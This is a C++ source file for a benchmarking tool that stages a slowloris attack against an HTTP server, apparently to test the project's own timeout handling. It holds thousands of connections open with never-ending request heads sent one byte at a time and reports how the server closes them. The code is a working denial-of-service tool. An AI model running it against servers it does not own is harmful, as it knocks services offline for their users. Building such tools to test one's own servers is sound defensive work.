// trickle: clients that never finish a request head (the "slowloris" attack). N connections
// to one URL, opened over a ramp, each sending a request head one byte at a time at an
// interval, a head that never ends, so the server can only close them; it prints one JSON
// line: connections opened, closed by the server and how long after their opening (p50,
// p99, max), answered before being closed, outliving the give-up time, failed to open, and
// its own CPU time (it shares the machine with what it measures).
//
//   trickle --url http://127.0.0.1:8080/healthz --connections 10000 --ramp-seconds 10
//           [--interval-seconds 1] [--duration SECONDS] [--give-up-seconds 60]
//           [--connect-timeout-seconds 10] [--ready-file PATH]
//   --duration: a connection the server closes is replaced by a new one until then, so
//   that N are held for that long (an attacker does not stop at the first close); without
//   it each of the N is opened once. SIGTERM or SIGINT ends the duration early, for a
//   script that holds the N for as long as it measures. After it, the connections still
//   open trickle on until the server closes them, or --give-up-seconds after their opening.
//   --ready-file: written once all N are open at the same moment, for a script that starts
//   measuring something else only then.
//
// Used by scripts/bench.sh (part hostile) and tests/functional/test_hostile_clients.py.

#include "common/process_cpu.hpp"
#include "support/asio.hpp"

#include <boost/asio/as_tuple.hpp>
#include <boost/asio/experimental/awaitable_operators.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/signal_set.hpp>
#include <boost/asio/steady_timer.hpp>
#include <boost/asio/write.hpp>
#include <boost/url/parse.hpp>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <string>
#include <sys/resource.h>
#include <vector>

namespace {

namespace asio = tp::asio;
using asio::ip::tcp;
using clock_type = std::chrono::steady_clock;

struct options {
    std::string host;
    std::string port;
    std::string target;
    int connections = 1000;
    double ramp_seconds = 0;
    double interval_seconds = 1;
    double duration_seconds = 0;
    double give_up_seconds = 60;
    double connect_timeout_seconds = 10;
    std::string ready_file;
};

// Everything runs on one event loop: no locks.
struct tally {
    std::uint64_t opened = 0;
    std::uint64_t failed_to_open = 0;
    std::uint64_t closed_by_server = 0;
    std::uint64_t answered = 0; // the server wrote something before closing (a 408, a 400...)
    std::uint64_t outlived = 0; // still open at the give-up time, closed by this tool
    std::uint64_t bytes_sent = 0;
    std::vector<double> closed_after_seconds;
    int open_now = 0;
    int most_open = 0;
    int slots_opened = 0;  // slots whose first connection is open
    int slots_running = 0; // when none is left, the signal handler is cancelled and the loop ends
    clock_type::time_point reopen_until;
};

clock_type::duration seconds(double s) {
    return std::chrono::duration_cast<clock_type::duration>(std::chrono::duration<double>(s));
}

// The k-th byte of a head that never ends: a request line, Host, then one header whose
// value goes on for ever. There is never an empty line, so however long the client keeps
// at it, no server can take it for a complete head.
char head_byte(const std::string& start, std::uint64_t k) {
    return k < start.size() ? start[k] : 'a';
}

// Reads until the server ends the connection (end of stream, a reset); the number of bytes
// it wrote first, if any. Cancelled when the writer's side of the race ends first.
tp::awaitable<std::size_t> until_closed(tcp::socket& socket) {
    std::array<char, 512> buffer{};
    std::size_t received = 0;
    for (;;) {
        const auto [ec, n] = co_await socket.async_read_some(asio::buffer(buffer), asio::as_tuple(tp::use_awaitable));
        received += n;
        if (ec) {
            co_return received;
        }
    }
}

// One byte per interval. True if a write failed (the server is gone), false at the give-up
// time or when cancelled because the server's close was seen first.
tp::awaitable<bool> trickle_bytes(
    tcp::socket& socket, const std::string& head, const options& o, clock_type::time_point give_up_at, tally& t
) {
    asio::steady_timer pause(socket.get_executor());
    for (std::uint64_t k = 0; clock_type::now() < give_up_at; ++k) {
        const char byte = head_byte(head, k);
        const auto [write_ec, written] =
            co_await asio::async_write(socket, asio::buffer(&byte, 1), asio::as_tuple(tp::use_awaitable));
        if (write_ec) {
            co_return true;
        }
        t.bytes_sent += written;
        pause.expires_at(std::min(clock_type::now() + seconds(o.interval_seconds), give_up_at));
        const auto [wait_ec] = co_await pause.async_wait(asio::as_tuple(tp::use_awaitable));
        if (wait_ec) {
            co_return false;
        }
    }
    co_return false;
}

// The ready file is written when the last slot has its first connection open (not when N
// are open at once: with a ramp longer than the header timeout, that moment never comes).
void note_first_open(const options& o, tally& t) {
    if (++t.slots_opened == o.connections && !o.ready_file.empty()) {
        std::ofstream(o.ready_file) << t.open_now << "\n";
    }
}

// One connection, from its connect to its close. False if it could not be opened.
tp::awaitable<bool>
one_connection(const options& o, const tcp::endpoint& endpoint, const std::string& head, bool first, tally& t) {
    using namespace asio::experimental::awaitable_operators;
    const auto executor = co_await asio::this_coro::executor;
    tcp::socket socket(executor);
    asio::steady_timer deadline(executor);
    deadline.expires_after(seconds(o.connect_timeout_seconds));
    // as_tuple: a refused connection must end the race at once (|| waits for the first success).
    auto connecting = socket.async_connect(endpoint, asio::as_tuple(tp::use_awaitable));
    auto expired = deadline.async_wait(asio::as_tuple(tp::use_awaitable));
    const auto connected = co_await (std::move(connecting) || std::move(expired));
    if (connected.index() == 1 || std::get<0>(std::get<0>(connected))) {
        ++t.failed_to_open;
        co_return false;
    }
    const auto opened_at = clock_type::now();
    ++t.opened;
    t.most_open = std::max(t.most_open, ++t.open_now);
    if (first) {
        note_first_open(o, t);
    }
    boost::system::error_code ignored;
    socket.set_option(tcp::no_delay(true), ignored);

    auto closing = until_closed(socket);
    auto trickling = trickle_bytes(socket, head, o, opened_at + seconds(o.give_up_seconds), t);
    const auto ended = co_await (std::move(closing) || std::move(trickling));
    const double after = std::chrono::duration<double>(clock_type::now() - opened_at).count();
    if (ended.index() == 0 || std::get<1>(ended)) {
        ++t.closed_by_server;
        t.closed_after_seconds.push_back(after);
        if (ended.index() == 0 && std::get<0>(ended) > 0) {
            ++t.answered;
        }
    } else {
        ++t.outlived;
    }
    --t.open_now;
    co_return true;
}

// One of the N: opened at its moment of the ramp, and until the end of the duration
// replaced each time the server closes it. A connection that cannot be opened is tried
// again one interval later, not at once (a refused connect costs nothing and would spin).
tp::awaitable<void> run_slot(
    const options& o,
    const tcp::endpoint& endpoint,
    const std::string& head,
    clock_type::time_point first_open,
    tally& t,
    asio::signal_set& signals
) {
    asio::steady_timer pause(co_await asio::this_coro::executor, first_open);
    co_await pause.async_wait(asio::as_tuple(tp::use_awaitable));
    bool first = true;
    do {
        if (co_await one_connection(o, endpoint, head, first, t)) {
            first = false;
        } else {
            pause.expires_after(seconds(o.interval_seconds));
            co_await pause.async_wait(asio::as_tuple(tp::use_awaitable));
        }
    } while (clock_type::now() < t.reopen_until);
    if (--t.slots_running == 0) {
        signals.cancel();
    }
}

// Ten thousand sockets are more than the usual soft limit of 1,024: up to the hard limit.
void raise_file_limit() {
    rlimit limit{};
    if (getrlimit(RLIMIT_NOFILE, &limit) == 0 && limit.rlim_cur < limit.rlim_max) {
        limit.rlim_cur = limit.rlim_max;
        setrlimit(RLIMIT_NOFILE, &limit);
    }
}

double percentile(const std::vector<double>& sorted, double p) {
    if (sorted.empty()) {
        return 0;
    }
    return sorted[static_cast<std::size_t>(p * static_cast<double>(sorted.size() - 1))];
}

int usage() {
    std::fputs(
        "usage: trickle --url http://host:port/path [--connections N] [--ramp-seconds S] [--interval-seconds S]\n"
        "               [--duration S] [--give-up-seconds S] [--connect-timeout-seconds S] [--ready-file PATH]\n",
        stderr
    );
    return 64;
}

} // namespace

int main(int argc, char** argv) {
    options o;
    bool have_url = false;
    for (int i = 1; i < argc; i += 2) {
        if (i + 1 >= argc) {
            return usage();
        }
        const std::string arg = argv[i];
        const std::string value = argv[i + 1];
        if (arg == "--url") {
            const auto url = boost::urls::parse_uri(value);
            if (!url || url->scheme() != "http") {
                return usage();
            }
            o.host = std::string(url->host());
            o.port = url->has_port() ? std::string(url->port()) : "80";
            o.target = std::string(url->encoded_target());
            have_url = true;
        } else if (arg == "--connections") {
            o.connections = std::max(1, std::stoi(value));
        } else if (arg == "--ramp-seconds") {
            o.ramp_seconds = std::stod(value);
        } else if (arg == "--interval-seconds") {
            o.interval_seconds = std::stod(value);
        } else if (arg == "--duration") {
            o.duration_seconds = std::stod(value);
        } else if (arg == "--give-up-seconds") {
            o.give_up_seconds = std::stod(value);
        } else if (arg == "--connect-timeout-seconds") {
            o.connect_timeout_seconds = std::stod(value);
        } else if (arg == "--ready-file") {
            o.ready_file = value;
        } else {
            return usage();
        }
    }
    if (!have_url || o.interval_seconds <= 0) {
        return usage();
    }
    raise_file_limit();

    asio::io_context loop(1);
    tcp::resolver resolver(loop);
    const tcp::endpoint endpoint = resolver.resolve(o.host, o.port).begin()->endpoint();
    const std::string head =
        "GET " + (o.target.empty() ? std::string("/") : o.target) + " HTTP/1.1\r\nHost: " + o.host + "\r\nX-Trickle: ";
    tally t;
    const auto started = clock_type::now();
    t.reopen_until = started + seconds(o.duration_seconds);
    asio::signal_set signals(loop, SIGINT, SIGTERM);
    signals.async_wait([&t](const boost::system::error_code& ec, int) {
        if (!ec) {
            t.reopen_until = clock_type::now();
        }
    });
    t.slots_running = o.connections;
    for (int i = 0; i < o.connections; ++i) {
        const auto first_open = started + seconds(o.ramp_seconds * i / o.connections);
        asio::co_spawn(loop, run_slot(o, endpoint, head, first_open, t, signals), asio::detached);
    }
    loop.run();
    const double elapsed = std::chrono::duration<double>(clock_type::now() - started).count();

    auto& after = t.closed_after_seconds;
    std::sort(after.begin(), after.end());
    std::printf(
        "{\"connections\":%d,\"opened\":%llu,\"failed_to_open\":%llu,\"closed_by_server\":%llu,\"answered\":%llu,"
        "\"outlived\":%llu,\"most_open\":%d,\"closed_after\":{\"p50_s\":%.3f,\"p99_s\":%.3f,\"max_s\":%.3f},"
        "\"bytes_sent\":%llu,\"seconds\":%.3f,\"cpu_seconds\":%.3f}\n",
        o.connections,
        static_cast<unsigned long long>(t.opened),
        static_cast<unsigned long long>(t.failed_to_open),
        static_cast<unsigned long long>(t.closed_by_server),
        static_cast<unsigned long long>(t.answered),
        static_cast<unsigned long long>(t.outlived),
        t.most_open,
        percentile(after, 0.50),
        percentile(after, 0.99),
        after.empty() ? 0.0 : after.back(),
        static_cast<unsigned long long>(t.bytes_sent),
        elapsed,
        tp::tools::own_cpu_seconds()
    );
    return 0;
}
